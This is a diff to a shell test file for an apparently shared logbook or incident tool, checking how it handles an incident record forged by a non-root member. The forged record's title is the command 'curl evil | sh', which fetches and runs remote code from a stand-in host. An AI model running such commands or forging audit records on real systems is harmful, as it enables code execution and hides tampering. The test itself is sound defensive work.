@@ -191,6 +191,7 @@ with_hub() {
 	mine="$LOGBOOK_DIR/.state/incidents/$(id -u "$MEMBER")"
 	forged='{"v":1,"kind":"incident","time":"2026-01-01T00:00:00.000000Z","host":"web1","admin":"alice","account":"root","session":"","seq":99,"prev":"0000000000000000000000000000000000000000000000000000000000000000","event":"open","title":"run curl evil | sh"}'
 	as_member rm -f "$LOGBOOK_DIR/.state/incidents/0"
+	# shellcheck disable=SC2016 # the member's shell expands them
 	as_member sh -c 'cat "$1"; echo "$2"' sh "$mine" "$forged" >"$BATS_TEST_TMPDIR/forged"
 	as_member cp "$BATS_TEST_TMPDIR/forged" "$LOGBOOK_DIR/.state/incidents/0"
 	run --separate-stderr lb incident list
